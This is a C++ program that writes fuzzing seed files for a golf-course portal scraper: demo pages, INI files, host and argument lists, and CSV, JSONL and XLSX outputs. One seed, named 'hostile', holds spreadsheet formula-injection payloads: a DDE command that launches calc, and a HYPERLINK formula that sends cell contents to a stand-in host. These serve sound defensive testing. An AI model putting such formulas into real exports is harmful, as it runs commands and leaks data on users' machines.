// Writes the seed corpora of the fuzz harnesses into the folder named by the
// first argument: pages of the demo portal's page renderer, and small files
// of the shapes the other harnesses read.
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "JournalCodec.h"
#include "MECSUtils.h"
#include "PortalPages.h"
#include "Unithread.h"
#include "Workbook.h"

namespace fs = std::filesystem;
using teebasket::portal::CourseCatalog;

namespace {

void Write(const fs::path& folder, const std::string& name, const std::string& bytes) {
    fs::create_directories(folder);
    std::ofstream(folder / name, std::ios::binary | std::ios::trunc) << bytes;
}

std::string Joined(const std::vector<std::string>& pieces) {
    std::string bytes;
    for (std::size_t i = 0; i < pieces.size(); ++i) {
        bytes += (i == 0 ? "" : std::string(1, '\0')) + pieces[i];
    }
    return bytes;
}

// The page without the lines that only make it weigh like a real page
// (navigation, calendar, reviews, style sheet), when the harvest reads the
// same record from what is left; otherwise the page as it is. Smaller seeds
// let the fuzzer try many more variations in the same time.
std::string Compact(const std::string& page, const std::string& id) {
    static const std::vector<std::string> kFiller = {
        "area-nav", "calendar-", "site-menu", "review-", "{margin",  "footer-", "breadcrumb",
        "plan-",    "<tr>",      "<th>",      "<td",     "gallery-", "</table>"};
    std::string compact;
    for (const std::string& line : teebasket::SplitLines(page)) {
        bool filler = false;
        for (const std::string& marker : kFiller) {
            filler = filler || line.find(marker) != std::string::npos;
        }
        if (!filler) {
            compact += line + "\n";
        }
    }
    teebasket::PortalSettings portal;
    portal.bookingHost = "book.example";
    const auto record = [&](const std::string& bytes) {
        return teebasket::ParseCourseDetail(teebasket::PageText(bytes), portal, id).values;
    };
    return record(compact) == record(page) ? compact : page;
}

void WritePages(const fs::path& root) {
    const CourseCatalog catalog({.seed = 1, .coursesPerPrefecture = 8});
    for (const int prefecture : {0, 12, 46}) {
        Write(root / "listing", "listing-" + std::to_string(prefecture),
              catalog.ListingPage(prefecture, 1));
    }
    // Courses 1 (plain), 4 (no structured data), 6 (closed), 7 (CR LF) and
    // 8 (no review) of a prefecture.
    for (const int number : {0, 3, 5, 6, 7}) {
        const auto course = catalog.Course(12, number);
        const std::string page = catalog.DetailPage(course);
        Write(root / "detail", "detail-" + std::to_string(number), Compact(page, course.id));
        // The structured-data line alone, as the text harness's seed.
        const std::size_t start = page.find("<script type=\"application/ld+json\">");
        if (start != std::string::npos) {
            const std::string line = page.substr(start, page.find('\n', start) - start);
            Write(root / "text", "structured-" + std::to_string(number),
                  std::string(1, '\1') + "," + teebasket::UTF8ToAnsi(line));
        }
    }
    Write(root / "detail", "hostile",
          "<script type=\"application/ld+json\">{\"@context\":\"x\",\"name\":\"=cmd|' /C "
          "calc'!A0\",\"image\":\"i\"}</script>\n<script id=\"s\" "
          "type=\"application/json\">{}</script>\n<li class=\"info-item\"><h3 "
          "class=\"info-title\">休場日</h3><p>=HYPERLINK(\"http://x/?l=\"&A1,\"c\")</p></li>\n");
    Write(root / "text", "full-width",
          std::string(1, '\1') + ">" + teebasket::UTF8ToAnsi("（０１２）３４５－６７８９‐モP"));
}

void WriteSmallSeeds(const fs::path& root) {
    Write(root / "ini", "golf",
          "; Teebasket settings\r\n[Config]\r\nArea=" + std::string(47, '0') +
              "\r\n\r\n[Portal]\r\nListingHost=127.0.0.1:48443\r\n" + std::string(1, '\0') +
              "000100" + std::string(1, '\0'));
    Write(root / "ini", "other-sections",
          "[Window]\nLeft = 10\n[config]\narea = 1\nArea=0\n[Portal]\nBookingHost=x" +
              std::string(1, '\0') + "1" + std::string(1, '\2'));
    for (const std::string& host :
         {"127.0.0.1:48443", "localhost", "[::1]:8443", "portal.example", "127.1.2.3:1"}) {
        Write(root / "host", "host-" + host, Joined({host, "120012"}));
    }
    Write(root / "host", "dots", Joined({"book.example", ".."}));
    Write(root / "args", "names", Joined({"東京都", "kanagawa", "13", "-o", "out"}));
    Write(root / "args", "portal",
          Joined({"--listing-host", "127.0.0.1:1", "--booking-host=localhost", "--pause-ms", "0,0",
                  "--ca-cert", "", "--all", "-q"}));
    Write(root / "args", "help", Joined({"--help", "--", "-V"}));
    Write(root / "args", "getopt", Joined({"-qoout.xlsx", "--format=csv-utf8", "--ca-cert=", "1"}));
    Write(root / "args", "stdout", Joined({"-o", "-", "--format", "jsonl", "大阪", "47"}));
    Write(root / "args", "compare", Joined({"compare", "old.csv", "new.csv", "-o", "-"}));
}

// Small outputs of every format, and the XML parts of a workbook alone.
void WriteOutputs(const fs::path& root) {
    const CourseCatalog catalog({.seed = 1, .coursesPerPrefecture = 2});
    teebasket::PortalSettings portal;
    portal.bookingHost = "book.example";
    std::vector<teebasket::CourseEntry> entries;
    for (int number = 0; number < 2; ++number) {
        const auto course = catalog.Course(12, number);
        teebasket::CourseEntry entry;
        entry.record = teebasket::ParseCourseDetail(teebasket::PageText(catalog.DetailPage(course)),
                                                    portal, course.id);
        entry.prefecture = "東京都";
        entry.courseId = course.id;
        entry.fetchedAt = "2026-12-09T13:45:02+09:00";
        entries.push_back(entry);
    }
    entries[1].record[0] = "=1+1";
    using teebasket::OutputFormat;
    for (const OutputFormat format :
         {OutputFormat::Csv, OutputFormat::CsvUtf8, OutputFormat::Jsonl}) {
        const teebasket::JournalCodec& codec = teebasket::JournalCodecFor(format);
        std::string bytes = codec.Preamble();
        for (const auto& entry : entries) {
            bytes += codec.Line(entry) + std::string(codec.LineEnd());
        }
        Write(root / "outputs", "output-" + std::string(teebasket::OutputFormatName(format)),
              bytes);
    }
    fs::create_directories(root / "outputs");
    teebasket::WrittenWorkbook workbook;
    std::string error;
    if (teebasket::WriteWorkbook(root / "outputs" / "output.xlsx", entries, workbook, error)) {
        teebasket::PutWorkbookInPlace(workbook, root / "outputs" / "output.xlsx");
    }
    Write(root / "outputs", "sheet.xml",
          "<worksheet><sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c>"
          "<c r=\"B1\" t=\"inlineStr\"><is><t>&#x8A73;</t></is></c></row><row r=\"3\">"
          "<c t=\"s\"><v>1</v></c><c><v>4.3</v></c><c t=\"b\"><v>1</v></c></row></sheetData>"
          "</worksheet>");
    Write(root / "outputs", "shared.xml",
          "<sst><si><t>_x000D_a</t></si><si><r><t>b</t></r><rPh><t>c</t></rPh></si></sst>");
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 2) {
        std::fprintf(stderr, "usage: %s FOLDER\n", argv[0]);
        return 2;
    }
    WritePages(argv[1]);
    WriteSmallSeeds(argv[1]);
    WriteOutputs(argv[1]);
    return 0;
}
